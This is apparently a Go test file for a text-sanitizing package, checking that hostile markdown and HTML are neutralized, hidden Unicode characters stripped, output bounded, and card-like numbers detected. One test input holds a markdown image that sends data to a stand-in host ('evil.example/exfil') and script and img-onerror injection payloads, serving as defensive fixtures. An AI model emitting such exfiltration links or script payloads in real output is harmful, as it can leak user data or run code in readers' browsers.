package textsafe

import (
	"strings"
	"testing"
)

func TestInlineNeutralizesMarkdownAndHTML(t *testing.T) {
	hostile := "![x](https://evil.example/exfil?d=1) <img src=x onerror=alert(1)> [click](http://evil) <script>alert(1)</script> <https://auto.example> www.evil.example"
	got := Inline(hostile, 0)
	for _, bad := range []string{"![", "](", "<img", "<script", "<https", "https://", "http://", "www.evil", "[click]"} {
		if strings.Contains(got, bad) {
			t.Errorf("Inline(%q) = %q: still contains %q", hostile, got, bad)
		}
	}
	for _, keep := range []string{"evil.example/exfil", "click", "img src=x", "alert(1)"} {
		if !strings.Contains(got, keep) {
			t.Errorf("Inline(%q) = %q: lost readable text %q", hostile, got, keep)
		}
	}
}

func TestInlineKeepsOrdinaryText(t *testing.T) {
	for _, s := range []string{"Ada Lovelace", "Pro plan (yearly) – 20% off!", "INV-2026-0001", "acme/widgets", "Émilie Du Châtelet", "api.calls", "Team: Acme"} {
		if got := Inline(s, 0); got != s {
			t.Errorf("Inline(%q) = %q, want it unchanged", s, got)
		}
	}
}

func TestPlainStripsHiddenCharactersAndBounds(t *testing.T) {
	if got := Plain("a\u200bb\u202ec\x00d \n\t e\U000E0041", 0); got != "abc d e" {
		t.Errorf("Plain = %q, want %q", got, "abc d e")
	}
	if got := Plain(strings.Repeat("x", 50), 10); got != strings.Repeat("x", 9)+"…" {
		t.Errorf("Plain bound = %q", got)
	}
	if got := Plain("0123456789\u200b", 10); got != "0123456789" {
		t.Errorf("Plain of exactly 10 visible runes = %q, want it whole", got)
	}
}

func TestCardLike(t *testing.T) {
	for s, want := range map[string]bool{
		"charged my card 4242 4242 4242 4242 twice": true,
		"card 4242-4242-4242-4242":                  true,
		"4000056655665556":                          true,
		"too expensive for 3 seats, 12 users":       false,
		"invoice 2026-11-30 for 120.00":             false,
		"":                                          false,
	} {
		if got := CardLike(s); got != want {
			t.Errorf("CardLike(%q) = %v, want %v", s, got, want)
		}
	}
}
